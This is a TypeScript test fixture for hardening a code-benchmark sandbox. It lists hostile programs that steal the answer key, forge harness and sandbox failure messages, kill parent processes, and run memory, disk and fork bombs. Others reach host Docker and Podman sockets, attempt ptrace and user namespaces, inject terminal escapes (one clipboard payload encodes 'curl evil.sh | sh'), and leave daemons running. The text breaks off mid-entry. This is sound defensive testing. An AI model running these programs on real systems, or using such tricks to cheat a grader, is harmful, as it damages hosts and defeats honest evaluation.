/**
 * The hostile table: programs that try to pass PE-Bench item 0001 (answer 45) without solving it, or to turn
 * their failure into our infra_error, or to harm the host. Each prints the answer only if its attack worked,
 * so a `passed` is an escape. `@NAME@` placeholders are filled per run (see HostileSlots) so that whatever
 * a program leaves on the host is known to be this run's.
 */
import type { Outcome } from '../../adapters/outcome.ts'

export type HostileLanguage = 'python' | 'javascript' | 'c' | 'rust' | 'java' | 'go'

export interface HostileProgram {
  name: string
  language: HostileLanguage
  kind:
    | 'answer key'
    | 'compile-time read'
    | 'harness forgery'
    | 'exit code'
    | 'signals'
    | 'memory'
    | 'tmpfs'
    | 'disk'
    | 'processes'
    | 'sockets'
    | 'user namespace'
    | 'ptrace'
    | 'terminal'
    | 'daemon'
    | 'write outside'
    | 'cross-run'
    | 'warm server'
  source: string
  /** Outcomes that show the program really ran (not a compile error of ours); any other but passed/infra_error fails the table. */
  ran?: readonly Outcome[]
}

/** What a run fills in: unique names, so that a leftover of an older run is never mistaken for this one's. */
export interface HostileSlots {
  /** A word unique to this run, in every file name and process command line a program tries to leave behind. */
  TOKEN: string
  /** A TCP port on 127.0.0.1 where the test counts connections. */
  PORT: string
  /** An abstract unix socket name (without the leading NUL) the test listens on. */
  ABSTRACT: string
  /** A unix socket path on the host the test listens on. */
  UNIXSOCK: string
  /** The absolute path of the answer key (the run's solutions.json). */
  SOLUTIONS: string
  /** A world-writable host file the programs try to change. */
  CANARY: string
}

export function fill(source: string, slots: HostileSlots): string {
  return source.replace(/@([A-Z]+)@/g, (whole, name: string) =>
    name in slots ? slots[name as keyof HostileSlots] : whole,
  )
}

/** Looks for the answer of item 0001 in a text that holds a solutions.json: `"0001": { …"solution": "45" }`. */
const PY_FIND = `
import re
def answer_in(text):
    match = re.search(r'"0001"\\s*:\\s*\\{[^}]*"solution"\\s*:\\s*"([^"]+)"', text)
    return match.group(1) if match else None
`
const GiB4 = 4 * 1024 * 1024 * 1024

export const HOSTILE_PROGRAMS: readonly HostileProgram[] = [
  // ---- answer-key search over the whole visible file system ----
  {
    name: 'walks / for solutions.json, datasets, .testbench, the repo, home, /run, /tmp',
    language: 'python',
    kind: 'answer key',
    source: `${PY_FIND}
import os
SYSTEM_TREES = ('/usr/lib', '/usr/share', '/usr/include', '/usr/libexec', '/usr/src')
for top in ('/', '/work', '/root', '/home', '/run', '/tmp', '/var', os.path.expanduser('~')):
    for root, dirs, files in os.walk(top, onerror=lambda error: None):
        if root.startswith(('/proc', '/sys', '/dev') + SYSTEM_TREES):
            dirs[:] = []
            continue
        for name in files:
            if name.endswith(('.json', '.jsonl', '.txt', '.csv', '.parquet')) or 'testbench' in root or 'euler' in root:
                try:
                    with open(os.path.join(root, name), errors='ignore') as file:
                        found = answer_in(file.read(4_000_000))
                except OSError:
                    continue
                if found:
                    print(found)
                    raise SystemExit(0)
print('no answer key found')
`,
  },
  {
    name: 'reads the key where it is on the host, through /proc of other processes and the data dir variable',
    language: 'python',
    kind: 'answer key',
    source: `${PY_FIND}
import glob, os
paths = ['@SOLUTIONS@', '/work/shared/datasets/euler/solutions.json', os.path.expanduser('~/.testbench/cache/datasets/euler/solutions.json')]
for environ in glob.glob('/proc/*/environ'):
    try:
        for entry in open(environ, 'rb').read().split(b'\\0'):
            if entry.startswith(b'TESTBENCH_DATA_DIR='):
                paths.append(entry.split(b'=', 1)[1].decode() + '/euler/solutions.json')
    except OSError:
        pass
paths += glob.glob('/proc/*/root/@SOLUTIONS@') + glob.glob('/proc/*/cwd/fixtures/euler/datasets/euler/solutions.json')
for path in paths:
    try:
        found = answer_in(open(path, errors='ignore').read())
    except OSError:
        continue
    if found:
        print(found)
        raise SystemExit(0)
print('no answer key found')
`,
  },
  {
    name: 'walks / with fs.readdirSync looking for the key',
    language: 'javascript',
    kind: 'answer key',
    source: `
const fs = require('fs'), path = require('path')
const seen = new Set()
function walk(dir, depth) {
  if (depth > 12 || seen.has(dir) || /^\\/(proc|sys|dev|usr\\/(lib|share|include|libexec|src))/.test(dir)) return
  seen.add(dir)
  let entries = []
  try { entries = fs.readdirSync(dir, { withFileTypes: true }) } catch { return }
  for (const entry of entries) {
    const full = path.join(dir, entry.name)
    if (entry.isDirectory()) walk(full, depth + 1)
    else if (/solutions|\\.jsonl?$|euler/.test(full)) {
      let text = ''
      try { text = fs.readFileSync(full, 'utf8').slice(0, 4000000) } catch { continue }
      const match = /"0001"\\s*:\\s*\\{[^}]*"solution"\\s*:\\s*"([^"]+)"/.exec(text)
      if (match) { console.log(match[1]); process.exit(0) }
    }
  }
}
walk('/', 0)
console.log('no answer key found')
`,
  },
  {
    name: 'walks / with nftw looking for the key',
    language: 'c',
    kind: 'answer key',
    source: `
#define _GNU_SOURCE
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
static int visit(const char *path, const struct stat *st, int type, struct FTW *ftw) {
  const char *skip[] = { "/proc", "/sys", "/dev", "/usr/lib", "/usr/share", "/usr/include", "/usr/libexec", "/usr/src" };
  for (int i = 0; i < 8; i++) if (strncmp(path, skip[i], strlen(skip[i])) == 0) return FTW_SKIP_SUBTREE;
  if (type != FTW_F || !strstr(path, ".json")) return 0;
  FILE *file = fopen(path, "r");
  if (!file) return 0;
  static char text[1 << 22];
  size_t n = fread(text, 1, sizeof text - 1, file);
  fclose(file);
  text[n] = 0;
  char *at = strstr(text, "\\"0001\\"");
  char *solution = at ? strstr(at, "\\"solution\\"") : NULL;
  if (solution) {
    char answer[64];
    if (sscanf(solution, "\\"solution\\" : \\"%63[^\\"]", answer) == 1 || sscanf(solution, "\\"solution\\":\\"%63[^\\"]", answer) == 1) {
      printf("%s\\n", answer);
      exit(0);
    }
  }
  return 0;
}
int main(void) {
  nftw("/", visit, 64, FTW_PHYS | FTW_ACTIONRETVAL);
  printf("no answer key found\\n");
  return 0;
}
`,
  },
  {
    name: 'walks / with std::fs looking for the key',
    language: 'rust',
    kind: 'answer key',
    source: `
use std::fs;
use std::path::Path;
fn walk(dir: &Path, depth: usize) -> Option<String> {
    for skip in ["/proc", "/sys", "/dev", "/usr/lib", "/usr/share", "/usr/include", "/usr/libexec", "/usr/src"] { if dir.starts_with(skip) { return None; } }
    if depth > 12 { return None; }
    for entry in fs::read_dir(dir).ok()?.flatten() {
        let path = entry.path();
        let kind = entry.file_type().ok()?;
        if kind.is_dir() { if let Some(found) = walk(&path, depth + 1) { return Some(found); } }
        else if kind.is_file() && path.to_string_lossy().contains("solutions") {
            if let Ok(text) = fs::read_to_string(&path) {
                if let Some(at) = text.find("\\"0001\\"") {
                    let rest = &text[at..];
                    if let Some(s) = rest.find("\\"solution\\"") {
                        let value: String = rest[s + 10..].chars().skip_while(|c| *c != '"').skip(1).skip_while(|c| *c != '"').skip(1).take_while(|c| *c != '"').collect();
                        return Some(value);
                    }
                }
            }
        }
    }
    None
}
fn main() {
    match walk(Path::new("/"), 0) { Some(answer) => println!("{}", answer), None => println!("no answer key found") }
}
`,
  },
  {
    name: 'walks / with Files.walk looking for the key',
    language: 'java',
    kind: 'answer key',
    source: `
import java.nio.file.*;
import java.util.regex.*;
public class Main {
  public static void main(String[] args) throws Exception {
    Pattern key = Pattern.compile("\\"0001\\"\\\\s*:\\\\s*\\\\{[^}]*\\"solution\\"\\\\s*:\\\\s*\\"([^\\"]+)\\"");
    try (var paths = Files.walk(Paths.get("/"), 12)) {
      for (Path path : (Iterable<Path>) paths.filter(p -> !p.startsWith("/proc") && !p.startsWith("/sys") && p.toString().endsWith(".json"))::iterator) {
        try {
          Matcher m = key.matcher(Files.readString(path));
          if (m.find()) { System.out.println(m.group(1)); return; }
        } catch (Exception e) { }
      }
    } catch (Exception e) { }
    System.out.println("no answer key found");
  }
}
`,
  },
  {
    name: 'walks / with filepath.WalkDir looking for the key',
    language: 'go',
    kind: 'answer key',
    source: `
package main
import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
)
func main() {
	key := regexp.MustCompile(\`"0001"\\s*:\\s*\\{[^}]*"solution"\\s*:\\s*"([^"]+)"\`)
	filepath.WalkDir("/", func(path string, entry fs.DirEntry, err error) error {
		if err != nil { return nil }
		for _, skip := range []string{"/proc", "/sys", "/dev", "/usr/lib", "/usr/share", "/usr/include", "/usr/libexec", "/usr/src"} {
			if entry.IsDir() && path == skip { return filepath.SkipDir }
		}
		if !entry.IsDir() && strings.HasSuffix(path, ".json") {
			if text, err := os.ReadFile(path); err == nil {
				if m := key.FindSubmatch(text); m != nil { fmt.Println(string(m[1])); os.Exit(0) }
			}
		}
		return nil
	})
	fmt.Println("no answer key found")
}
`,
  },
  // ---- compile-time reads of the key ----
  {
    name: 'include_str! of the key at its absolute path',
    language: 'rust',
    kind: 'compile-time read',
    source: `
const KEY: &str = include_str!("@SOLUTIONS@");
fn main() {
    let at = KEY.find("\\"0001\\"").unwrap();
    let rest = &KEY[at..];
    let s = rest.find("\\"solution\\"").unwrap();
    let value: String = rest[s + 10..].chars().skip_while(|c| *c != '"').skip(1).skip_while(|c| *c != '"').skip(1).take_while(|c| *c != '"').collect();
    println!("{}", value);
}
`,
  },
  {
    name: 'include_bytes! of the key through a relative path up from the work dir',
    language: 'rust',
    kind: 'compile-time read',
    source: `
const KEY: &[u8] = include_bytes!("../../../../../../../../..@SOLUTIONS@");
fn main() {
    let text = String::from_utf8_lossy(KEY);
    let at = text.find("\\"0001\\"").unwrap();
    let rest = &text[at..];
    let s = rest.find("\\"solution\\"").unwrap();
    let value: String = rest[s + 10..].chars().skip_while(|c| *c != '"').skip(1).skip_while(|c| *c != '"').skip(1).take_while(|c| *c != '"').collect();
    println!("{}", value);
}
`,
  },
  {
    name: 'assembler .incbin of the key',
    language: 'c',
    kind: 'compile-time read',
    source: `
#include <stdio.h>
#include <string.h>
__asm__(".section .rodata\\n.global key\\nkey:\\n.incbin \\"@SOLUTIONS@\\"\\n.byte 0\\n.text\\n");
extern const char key[];
int main(void) {
  const char *at = strstr(key, "\\"0001\\"");
  const char *s = at ? strstr(at, "\\"solution\\"") : 0;
  char answer[64];
  if (s && sscanf(s, "\\"solution\\": \\"%63[^\\"]", answer) == 1) printf("%s\\n", answer);
  return 0;
}
`,
  },
  {
    name: '#include of the key at its absolute path, as a string',
    language: 'c',
    kind: 'compile-time read',
    source: `
#include <stdio.h>
#define STR(x) #x
static const char *key =
#include "@SOLUTIONS@"
;
int main(void) { printf("%s\\n", key); return 0; }
`,
  },
  {
    name: '//go:embed of the key through a relative path',
    language: 'go',
    kind: 'compile-time read',
    source: `
package main
import (
	_ "embed"
	"fmt"
	"regexp"
)
//go:embed ../../../../../../..@SOLUTIONS@
var key string
func main() {
	m := regexp.MustCompile(\`"0001"\\s*:\\s*\\{[^}]*"solution"\\s*:\\s*"([^"]+)"\`).FindStringSubmatch(key)
	if m != nil { fmt.Println(m[1]) }
}
`,
  },
  // ---- harness-message and exit-code forgery ----
  {
    name: "prints bwrap's set-up failure and exits 1",
    language: 'python',
    kind: 'harness forgery',
    source: `
import sys
sys.stderr.write('bwrap: Creating new namespace failed: Operation not permitted\\nbwrap: No permissions to creating new namespace\\n')
print('{ "child-pid": 2 }')
sys.exit(1)
`,
  },
  {
    name: "prints the warm server's set-up error and writes every inherited fd, then exits 125",
    language: 'python',
    kind: 'harness forgery',
    source: `
import os, sys
for fd in range(3, 1024):
    for text in (b'{ "exit-code": 0 }\\n', b'could not prepare the child: OSError()\\n', b'x\\x00\\x00\\x00\\x02{}'):
        try:
            os.write(fd, text)
        except OSError:
            pass
    try:
        os.close(fd)
    except OSError:
        pass
sys.stderr.write('[sandbox] warning: the warm Python server could not prepare a run (could not prepare the child)\\n')
os._exit(125)
`,
  },
  {
    name: 'prints a guessed success marker and the sandbox failure text, exits 126',
    language: 'javascript',
    kind: 'harness forgery',
    source: `
console.log('TESTBENCH_PASS_' + '0'.repeat(32))
process.stderr.write('The sandbox could not start: spawn /usr/bin/bwrap EACCES.\\ninfra_error\\n')
process.exit(126)
`,
  },
  {
    name: "forges GNU time's report on fd 4 and exits 127",
    language: 'c',
    kind: 'harness forgery',
    source: `
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
  const char *report = "Command terminated by signal 9\\n0.01 99.00 0.00 99999999\\n";
  for (int fd = 3; fd < 1024; fd++) { if (write(fd, report, strlen(report)) < 0) {} close(fd); }
  fprintf(stderr, "/usr/bin/time: cannot run ./main: No such file or directory\\n");
  return 127;
}
`,
  },
  {
    name: 'prints the harness warning and exits 255',
    language: 'rust',
    kind: 'harness forgery',
    source: `
fn main() {
    eprintln!("[sandbox] warning: bwrap cannot create namespaces here (setting up uid map: Permission denied)");
    eprintln!("bwrap failed to set up the sandbox (exit status 1): no message.");
    std::process::exit(255);
}
`,
  },
  {
    name: 'exits 125 after printing the container failure text',
    language: 'go',
    kind: 'harness forgery',
    source: `
package main
import ("fmt"; "os")
func main() {
	fmt.Fprintln(os.Stderr, "Error: OCI runtime error: runc: container_linux.go: starting container process caused: exec: not found")
	os.Exit(125)
}
`,
  },
  {
    name: 'prints infra texts and exits 125 from the JVM',
    language: 'java',
    kind: 'harness forgery',
    source: `
public class Main {
  public static void main(String[] args) {
    System.err.println("# There is insufficient memory for the Java Runtime Environment to continue.");
    System.err.println("bwrap: execvp java: No such file or directory");
    System.exit(125);
  }
}
`,
  },
  {
    name: 'kills itself with SIGKILL',
    language: 'python',
    kind: 'exit code',
    source: `
import os, signal
print(44, flush=True)
os.kill(os.getpid(), signal.SIGKILL)
`,
  },
  {
    name: 'raises SIGXCPU and SIGXFSZ on itself',
    language: 'c',
    kind: 'exit code',
    source: `
#include <signal.h>
#include <stdio.h>
int main(void) { printf("44\\n"); fflush(stdout); raise(SIGXFSZ); raise(SIGXCPU); return 0; }
`,
  },
  // ---- signals to the runner ----
  {
    name: 'kills -1, its parent, its group and pid 1',
    language: 'c',
    kind: 'signals',
    source: `
#include <signal.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
  kill(getppid(), SIGKILL); kill(0, SIGTERM); kill(1, SIGKILL); kill(-1, SIGKILL);
  for (int pid = 2; pid < 4096; pid++) if (pid != getpid()) kill(pid, SIGKILL);
  printf("44\\n");
  return 0;
}
`,
  },
  {
    name: 'signals its parent and pid 1 from Node',
    language: 'javascript',
    kind: 'signals',
    source: `
for (const pid of [process.ppid, 1, -1]) { try { process.kill(pid, 'SIGKILL') } catch {} }
console.log(44)
`,
  },
  // ---- memory: shared mappings, memfd, private ----
  {
    name: 'mmap(MAP_SHARED|MAP_ANONYMOUS) bomb, touching every page',
    language: 'python',
    kind: 'memory',
    source: `
import mmap
held, total = [], 0
try:
    while total < ${GiB4}:
        block = mmap.mmap(-1, 256 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
        for offset in range(0, 256 << 20, 4096):
            block[offset] = 1
        held.append(block)
        total += 256 << 20
except (OSError, MemoryError, ValueError):
    pass
print(45 if total >= ${GiB4} else f'got {total >> 20} MiB')
`,
  },
  {
    name: 'mmap(MAP_SHARED|MAP_ANONYMOUS) bomb in C',
    language: 'c',
    kind: 'memory',
    source: `
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
int main(void) {
  unsigned long long total = 0, block = 256ull << 20;
  while (total < ${GiB4}ull) {
    char *p = mmap(0, block, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) break;
    memset(p, 1, block);
    total += block;
  }
  if (total >= ${GiB4}ull) printf("45\\n"); else printf("got %llu MiB\\n", total >> 20);
  return 0;
}
`,
  },
  {
    name: 'memfd_create bomb written with write()',
    language: 'c',
    kind: 'memory',
    source: `
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
int main(void) {
  static char chunk[1 << 20];
  memset(chunk, 1, sizeof chunk);
  unsigned long long total = 0;
  while (total < ${GiB4}ull) {
    int fd = memfd_create("bomb", 0);
    if (fd < 0) break;
    int wrote = 0;
    for (int i = 0; i < 60; i++) { if (write(fd, chunk, sizeof chunk) != sizeof chunk) break; wrote++; total += sizeof chunk; }
    if (wrote == 0) break;
  }
  if (total >= ${GiB4}ull) printf("45\\n"); else printf("got %llu MiB\\n", total >> 20);
  return 0;
}
`,
  },
  {
    name: 'os.memfd_create bomb',
    language: 'python',
    kind: 'memory',
    source: `
import os
total = 0
chunk = b'x' * (1 << 20)
try:
    while total < ${GiB4}:
        fd = os.memfd_create('bomb')
        for _ in range(60):
            os.write(fd, chunk)
            total += len(chunk)
except OSError:
    pass
print(45 if total >= ${GiB4} else f'got {total >> 20} MiB')
`,
  },
  {
    name: 'maps /dev/zero shared from the JVM',
    language: 'java',
    kind: 'memory',
    source: `
import java.io.RandomAccessFile;
import java.nio.MappedByteBuffer;
import java.nio.channels.FileChannel;
import java.util.ArrayList;
public class Main {
  public static void main(String[] args) {
    long total = 0, block = 256L << 20;
    ArrayList<MappedByteBuffer> held = new ArrayList<>();
    try (RandomAccessFile zero = new RandomAccessFile("/dev/zero", "rw")) {
      while (total < ${GiB4}L) {
        MappedByteBuffer map = zero.getChannel().map(FileChannel.MapMode.READ_WRITE, 0, block);
        for (int i = 0; i < block; i += 4096) map.put(i, (byte) 1);
        held.add(map);
        total += block;
      }
    } catch (Throwable e) { }
    System.out.println(total >= ${GiB4}L ? "45" : "got " + (total >> 20) + " MiB");
  }
}
`,
  },
  {
    name: 'syscall.Mmap shared anonymous bomb',
    language: 'go',
    kind: 'memory',
    source: `
package main
import ("fmt"; "syscall")
func main() {
	var total uint64
	var held [][]byte
	for total < ${GiB4} {
		block, err := syscall.Mmap(-1, 0, 256<<20, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_SHARED|syscall.MAP_ANON)
		if err != nil { break }
		for i := 0; i < len(block); i += 4096 { block[i] = 1 }
		held = append(held, block)
		total += 256 << 20
	}
	if total >= ${GiB4} { fmt.Println(45) } else { fmt.Printf("got %d MiB\\n", total>>20) }
}
`,
  },
  {
    name: 'private heap bomb',
    language: 'rust',
    kind: 'memory',
    source: `
fn main() {
    let mut held: Vec<Vec<u8>> = Vec::new();
    let mut total: u64 = 0;
    while total < ${GiB4} {
        let mut block: Vec<u8> = Vec::new();
        if block.try_reserve_exact(256 << 20).is_err() { break; }
        block.resize(256 << 20, 1);
        held.push(block);
        total += 256 << 20;
    }
    if total >= ${GiB4} { println!("45"); } else { println!("got {} MiB", total >> 20); }
}
`,
  },
  {
    name: 'Buffer bomb in Node',
    language: 'javascript',
    kind: 'memory',
    source: `
const held = []
let total = 0
try { while (total < ${GiB4}) { held.push(Buffer.alloc(256 << 20, 1)); total += 256 << 20 } } catch {}
console.log(total >= ${GiB4} ? 45 : 'got ' + (total >> 20) + ' MiB')
`,
  },
  // ---- tmpfs and disk ----
  {
    name: '/dev/shm file bomb',
    language: 'python',
    kind: 'tmpfs',
    source: `
total = 0
chunk = b'x' * (1 << 20)
try:
    with open('/dev/shm/bomb-@TOKEN@', 'wb') as file:
        while total < 1 << 30:
            file.write(chunk)
            file.flush()
            total += len(chunk)
except OSError:
    pass
print(45 if total >= 1 << 30 else f'got {total >> 20} MiB')
`,
  },
  {
    name: '/tmp file bomb across many files',
    language: 'python',
    kind: 'tmpfs',
    source: `
import os
total = 0
chunk = b'x' * (1 << 20)
try:
    for index in range(100_000):
        with open(f'/tmp/bomb-@TOKEN@-{index}', 'wb') as file:
            for _ in range(32):
                file.write(chunk)
                total += len(chunk)
        if total >= 1 << 30:
            break
except OSError:
    pass
print(45 if total >= 1 << 30 else f'got {total >> 20} MiB')
`,
  },
  {
    name: 'fills the work dir (the disk, if it were the host) across many files',
    language: 'c',
    kind: 'disk',
    source: `
#include <stdio.h>
#include <string.h>
int main(void) {
  static char chunk[1 << 20];
  memset(chunk, 1, sizeof chunk);
  unsigned long long total = 0;
  char name[64];
  for (int index = 0; total < (1ull << 30); index++) {
    snprintf(name, sizeof name, "fill-@TOKEN@-%d", index);
    FILE *file = fopen(name, "wb");
    if (!file) break;
    int ok = 1;
    for (int i = 0; i < 32 && ok; i++) { ok = fwrite(chunk, 1, sizeof chunk, file) == sizeof chunk && fflush(file) == 0; if (ok) total += sizeof chunk; }
    fclose(file);
    if (!ok) break;
  }
  if (total >= (1ull << 30)) printf("45\\n"); else printf("got %llu MiB\\n", total >> 20);
  return 0;
}
`,
  },
  {
    name: 'fills the work dir from Go',
    language: 'go',
    kind: 'disk',
    source: `
package main
import ("fmt"; "os")
func main() {
	chunk := make([]byte, 1<<20)
	var total uint64
	for index := 0; total < 1<<30; index++ {
		file, err := os.Create(fmt.Sprintf("fill-@TOKEN@-%d", index))
		if err != nil { break }
		ok := true
		for i := 0; i < 32 && ok; i++ { if _, err := file.Write(chunk); err != nil { ok = false } else { total += 1 << 20 } }
		file.Close()
		if !ok { break }
	}
	if total >= 1<<30 { fmt.Println(45) } else { fmt.Printf("got %d MiB\\n", total>>20) }
}
`,
  },
  // ---- processes ----
  {
    name: 'fork bomb that counts its children',
    language: 'python',
    kind: 'processes',
    source: `
import os, time
count = 0
for _ in range(2000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(30)
        os._exit(0)
    count += 1
print(45 if count >= 2000 else f'forked {count}')
`,
  },
  {
    name: 'fork bomb in C',
    language: 'c',
    kind: 'processes',
    source: `
#include <stdio.h>
#include <unistd.h>
int main(void) {
  int count = 0;
  for (int i = 0; i < 2000; i++) { pid_t pid = fork(); if (pid < 0) break; if (pid == 0) { sleep(30); _exit(0); } count++; }
  if (count >= 2000) printf("45\\n"); else printf("forked %d\\n", count);
  return 0;
}
`,
  },
  {
    name: 'spawns 2000 sleepers from Node',
    language: 'javascript',
    kind: 'processes',
    source: `
const { spawn } = require('child_process')
let count = 0
for (let i = 0; i < 2000; i++) {
  try { const child = spawn('/bin/sleep', ['30'], { stdio: 'ignore' }); child.on('error', () => {}); if (child.pid) count++ } catch { break }
}
console.log(count >= 2000 ? 45 : 'spawned ' + count)
process.exit(0)
`,
  },
  // ---- host sockets ----
  {
    name: 'connects to host sockets: abstract, path, loopback TCP, podman, docker, dbus',
    language: 'python',
    kind: 'sockets',
    source: `
import socket
reached = []
targets = [(socket.AF_UNIX, '\\0@ABSTRACT@'), (socket.AF_UNIX, '@UNIXSOCK@'), (socket.AF_INET, ('127.0.0.1', @PORT@)),
           (socket.AF_UNIX, '/run/testbench-podman/podman.sock'), (socket.AF_UNIX, '/var/run/docker.sock'),
           (socket.AF_UNIX, '/run/dbus/system_bus_socket'), (socket.AF_UNIX, '/run/systemd/private')]
for family, address in targets:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(1)
            sock.connect(address)
            reached.append(str(address))
    except OSError:
        pass
print(45 if reached else 'reached nothing')
`,
  },
  {
    name: 'connects to an abstract unix socket in C',
    language: 'c',
    kind: 'sockets',
    source: `
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
int main(void) {
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un address = { .sun_family = AF_UNIX };
  const char *name = "@ABSTRACT@";
  memcpy(address.sun_path + 1, name, strlen(name));
  int reached = connect(fd, (struct sockaddr *) &address, sizeof(sa_family_t) + 1 + strlen(name)) == 0;
  printf(reached ? "45\\n" : "reached nothing\\n");
  return 0;
}
`,
  },
  {
    name: 'connects to loopback TCP and a unix path from Node',
    language: 'javascript',
    kind: 'sockets',
    source: `
const net = require('net')
let reached = 0, tried = 0
const done = () => { if (++tried === 3) console.log(reached ? 45 : 'reached nothing') }
for (const options of [{ host: '127.0.0.1', port: @PORT@ }, { path: '@UNIXSOCK@' }, { path: '\\0@ABSTRACT@' }]) {
  const socket = net.connect(options, () => { reached++; socket.destroy(); done() })
  socket.on('error', done)
}
`,
  },
  {
    name: 'dials loopback TCP and the abstract socket from Go',
    language: 'go',
    kind: 'sockets',
    source: `
package main
import ("fmt"; "net"; "time")
func main() {
	reached := 0
	for _, target := range [][2]string{{"tcp", "127.0.0.1:@PORT@"}, {"unix", "@@ABSTRACT@"}, {"unix", "@UNIXSOCK@"}} {
		if conn, err := net.DialTimeout(target[0], target[1], time.Second); err == nil { reached++; conn.Close() }
	}
	if reached > 0 { fmt.Println(45) } else { fmt.Println("reached nothing") }
}
`,
  },
  {
    name: 'opens a loopback TCP socket from the JVM',
    language: 'java',
    kind: 'sockets',
    source: `
import java.net.*;
public class Main {
  public static void main(String[] args) {
    try (Socket socket = new Socket()) { socket.connect(new InetSocketAddress("127.0.0.1", @PORT@), 1000); System.out.println(45); }
    catch (Exception e) { System.out.println("reached nothing"); }
  }
}
`,
  },
  {
    name: 'TcpStream and UnixStream to the host',
    language: 'rust',
    kind: 'sockets',
    source: `
use std::net::TcpStream;
use std::os::unix::net::UnixStream;
fn main() {
    let tcp = TcpStream::connect("127.0.0.1:@PORT@").is_ok();
    let unix = UnixStream::connect("@UNIXSOCK@").is_ok();
    let podman = UnixStream::connect("/run/testbench-podman/podman.sock").is_ok();
    println!("{}", if tcp || unix || podman { "45" } else { "reached nothing" });
}
`,
  },
  // ---- user namespaces ----
  {
    name: 'unshare -U and unshare(CLONE_NEWUSER) through ctypes',
    language: 'python',
    kind: 'user namespace',
    source: `
import ctypes, subprocess
made = False
try:
    made = subprocess.run(['unshare', '-U', '-r', 'true'], capture_output=True).returncode == 0
except OSError:
    pass
if ctypes.CDLL(None, use_errno=True).unshare(0x10000000) == 0:
    made = True
print(45 if made else 'no user namespace')
`,
  },
  {
    name: 'clone(CLONE_NEWUSER) and unshare(CLONE_NEWUSER) in C',
    language: 'c',
    kind: 'user namespace',
    source: `
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>
static int child(void *arg) { return 0; }
int main(void) {
  char *stack = malloc(1 << 16);
  int cloned = clone(child, stack + (1 << 16), CLONE_NEWUSER | SIGCHLD, 0) > 0;
  if (cloned) wait(0);
  int unshared = unshare(CLONE_NEWUSER) == 0;
  printf(cloned || unshared ? "45\\n" : "no user namespace\\n");
  return 0;
}
`,
  },
  {
    name: 'exec with Cloneflags CLONE_NEWUSER from Go',
    language: 'go',
    kind: 'user namespace',
    source: `
package main
import ("fmt"; "os/exec"; "syscall")
func main() {
	command := exec.Command("/bin/true")
	command.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: 1}}}
	if command.Run() == nil { fmt.Println(45) } else { fmt.Println("no user namespace") }
}
`,
  },
  // ---- ptrace ----
  {
    name: 'ptrace-attaches to its parent and to pid 1',
    language: 'c',
    kind: 'ptrace',
    source: `
#include <stdio.h>
#include <sys/ptrace.h>
#include <unistd.h>
int main(void) {
  int attached = ptrace(PTRACE_ATTACH, getppid(), 0, 0) == 0 || ptrace(PTRACE_ATTACH, 1, 0, 0) == 0;
  printf(attached ? "45\\n" : "no ptrace\\n");
  return 0;
}
`,
  },
  {
    name: 'reads its parent memory through /proc and process_vm_readv',
    language: 'python',
    kind: 'ptrace',
    source: `
import ctypes, os
read = False
for pid in {os.getppid(), 1}:
    try:
        with open(f'/proc/{pid}/mem', 'rb') as memory:
            memory.read(1)
            read = True
    except OSError:
        pass
    try:
        os.listdir(f'/proc/{pid}/fd')
        read = True
    except OSError:
        pass
print(45 if read else 'no parent memory')
`,
  },
  // ---- terminal control sequences ----
  {
    name: 'OSC 52 clipboard, title, screen clear and a last line that draws 45 over 44',
    language: 'python',
    kind: 'terminal',
    source: `
import sys
sys.stdout.write('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b]0;pwned\\x07\\x1b[2J\\x1b[H\\x1b[31m')
sys.stderr.write('\\x1b]52;c;ZXZpbA==\\x07\\x1b[1A\\x1b[2K')
print('44\\r\\x1b[2K45')
`,
  },
  {
    name: 'escape sequences in a compile error',
    language: 'c',
    kind: 'terminal',
    source: `
#error "\\x1b]52;c;ZXZpbA==\\x07\\x1b]0;pwned\\x07\\x1b[2J"
int main(void) { return 0; }
`,
    ran: ['compile_error'],
  },
  {
    name: 'title and cursor moves from Node, on both streams',
    language: 'javascript',
    kind: 'terminal',
    source: `
process.stdout.write('\\u001b]0;pwned\\u0007\\u001b[10;10H\\u001b[?1049h')
process.stderr.write('\\u001b]52;c;ZXZpbA==\\u0007\\u001bP+q\\u001b\\\\')
console.log('44')
`,
  },
  {
    name: 'a panic message full of escape sequences',
    language: 'rust',
    kind: 'terminal',
    source: `
fn main() {
    println!("\\x1b]0;pwned\\x07");
    panic!("\\x1b]52;c;ZXZpbA==\\x07\\x1b[2J\\x1b[H");
}
`,
  },
  {
    name: 'an exception message with escape sequences',
    language: 'java',
    kind: 'terminal',
    source: `
public class Main {
  public static void main(String[] args) {
    System.out.println("\\u001b]0;pwned\\u0007");
    throw new RuntimeException("\\u001b]52;c;ZXZpbA==\\u0007\\u001b[2J");
  }
}
`,
  },
  // ---- surviving the run ----
  {
    name: 'a setsid daemon that outlives the program',
    language: 'python',
    kind: 'daemon',
    source: `
import subprocess
subprocess.Popen(['/bin/sh', '-c', 'sleep 60; : @TOKEN@'], start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print('daemon started')
`,
  },
  {
    name: 'double fork and setsid in C',
    language: 'c',
    kind: 'daemon',
    source: `
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
int main(void) {
  if (fork() == 0) { setsid(); if (fork() == 0) { execl("/bin/sleep", "sleep", "60", "@TOKEN@", (char *) 0); _exit(1); } _exit(0); }
  printf("daemon started\\n");
  return 0;
}
